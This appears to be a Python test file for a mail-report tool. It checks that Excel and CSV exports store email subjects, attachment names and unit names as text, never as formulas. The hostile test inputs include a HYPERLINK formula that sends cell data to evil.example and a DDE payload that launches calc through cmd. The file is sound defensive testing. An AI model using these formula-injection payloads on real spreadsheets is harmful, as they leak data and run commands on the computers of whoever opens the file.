"""Every spreadsheet and CSV cell made from mail text (or any text) is data, never a formula."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime
from email.message import EmailMessage
from pathlib import Path
from zoneinfo import ZoneInfo

from click.testing import CliRunner
from openpyxl import load_workbook

from tests.workers.reports.conftest import ingest_files
from workers.cli import cli
from workers.reports.outputs import make_daily_report

TZ = ZoneInfo("Asia/Shanghai")
SUBJECT = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'
FILE_NAME = "=2+5+cmd|' -C calc'!A0.docx"
SENDER = "@SUM(1+1)*cmd <x@evil.example>"
# unit names can come from a parsed notice, not only from config: they must be safe too
HOSTILE_UNITS = """
[[units]]
code = "evil1"
name = "=1+2 教育局"
type = "city"
aliases = []

[[units]]
code = "evil2"
name = "@SUM(A1:A9)"
type = "city"
aliases = []

[[units]]
code = "evil3"
name = "-2+3+cmd"
type = "city"
aliases = []

[[units]]
code = "evil4"
name = "\\t=1+1"
type = "college"
aliases = []
"""


def hostile_mail(folder: Path) -> Path:
    mail = EmailMessage()
    mail["Received"] = "from mx.evil.example by mx.ln.gov.cn; Tue, 16 May 2023 10:00:00 +0800"
    mail["From"] = SENDER
    mail["To"] = "zcc1.sjyt@ln.gov.cn"
    mail["Subject"] = SUBJECT
    mail["Date"] = "Tue, 16 May 2023 10:00:00 +0800"
    mail.set_content("见附件")
    mail.add_attachment(
        b"PK\x03\x04 not really a docx",
        maintype="application",
        subtype="octet-stream",
        filename=FILE_NAME,
    )
    path = folder / "hostile.eml"
    path.write_bytes(bytes(mail))
    return path


def formulas(book) -> list[str]:
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def test_daily_report_workbook_holds_the_subject_and_file_name_as_text(make_app, tmp_path):
    ctx = make_app()
    ingest_files(ctx, [hostile_mail(tmp_path)])
    result = make_daily_report(
        ctx, ctx.config.reports, date(2023, 5, 16), datetime(2023, 5, 17, 8, tzinfo=TZ), send=False
    )
    book = load_workbook(ctx.archive.abspath(result.xlsx_path))
    assert formulas(book) == []
    values = {cell.value for row in book["当日来件明细"].iter_rows() for cell in row}
    assert SUBJECT in values and FILE_NAME in values  # shown exactly as sent, as text


def test_cli_tracker_csv_and_xlsx_hold_no_formula(make_app, tmp_path):
    ctx = make_app(HOSTILE_UNITS, units_file=None)
    base = ["--config", str(ctx.config.path), "report", "tracker", "--date", "2023-05-20"]
    out = tmp_path / "进度.xlsx"
    result = CliRunner().invoke(cli, [*base, "--format", "xlsx", "--output", str(out)])
    assert result.exit_code == 0, result.output
    book = load_workbook(out)
    assert formulas(book) == []
    names = {cell.value for cell in book.active["A"]}
    assert {"=1+2 教育局", "@SUM(A1:A9)", "-2+3+cmd", "\t=1+1"} <= names

    result = CliRunner().invoke(cli, [*base, "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.output.removeprefix("\ufeff"))))
    shown = {row["单位"] for row in rows}
    assert {"'=1+2 教育局", "'@SUM(A1:A9)", "'-2+3+cmd", "'\t=1+1"} <= shown
    for row in rows:  # a negative number (days_left) is a number, not a formula
        cells = [v for v in row.values() if not re.fullmatch(r"-?\d+", v)]
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in cells), row
